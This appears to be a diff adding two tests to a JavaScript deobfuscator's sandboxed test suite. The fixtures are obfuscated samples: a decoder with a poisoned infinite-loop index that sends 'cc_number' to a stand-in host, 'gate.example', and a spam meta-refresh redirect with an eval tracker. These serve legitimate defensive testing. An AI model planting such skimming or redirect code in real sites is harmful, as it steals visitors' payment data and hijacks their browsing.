@@ -115,6 +115,30 @@ document.title = d(0);`;
     assert.ok(sandbox.counts.timeout >= 1);
   });
 
+  test('one poisoned index that loops forever does not cost the rest of the string table', () => {
+    // An attacker who adds one call the decoder never returns from must not keep every other string hidden.
+    const code = `function t() { var a = ["https://gate.example/c", "never", "cc_number"]; t = function () { return a; }; return t(); }
+function d(i) { var a = t(); if (i === 1) for (;;) {} return a[i]; }
+send(d(0), d(1), d(2));`;
+    const timeoutsBefore = sandbox.counts.timeout;
+    const result = deobfuscate(code, { sandbox });
+    assert.equal(result.status, 'ok');
+    assert.match(result.code, /send\("https:\/\/gate\.example\/c", d\(1\), "cc_number"\)/);
+    assert.ok(sandbox.counts.timeout > timeoutsBefore);
+  });
+
+  test('code strings that depend on Math.random or the date are left as code, and the output is the same every time', () => {
+    const code = `var u = 'https://pharma.example/buy/?aff=wpx' + Math.floor(Math.random() * 90 + 10);
+document.write('<meta http-equiv="refresh" content="0;url=' + u + '">');
+var d = 'v=' + new Date().getTime();
+eval('track("' + d + '")');`;
+    const first = deobfuscate(code, { sandbox });
+    const second = deobfuscate(code, { sandbox });
+    assert.equal(first.code, second.code);
+    assert.match(first.code, /Math\.random\(\)/);
+    assert.match(first.code, /new Date\(\)/);
+  });
+
   test('layers nested beyond the budget stop with over_budget and keep what was unpacked', () => {
     let code = 'document.title = "deep";';
     for (let i = 0; i < 14; i++) code = `eval(${JSON.stringify(code)});`;
